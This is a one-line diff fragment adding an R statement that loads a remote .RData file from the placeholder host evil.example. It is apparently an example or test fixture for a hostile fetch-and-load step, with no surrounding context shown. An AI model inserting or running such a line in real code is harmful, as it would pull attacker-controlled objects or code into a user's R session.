@@ -1,0 +1,1 @@
+load(url("http://evil.example/x.RData"))
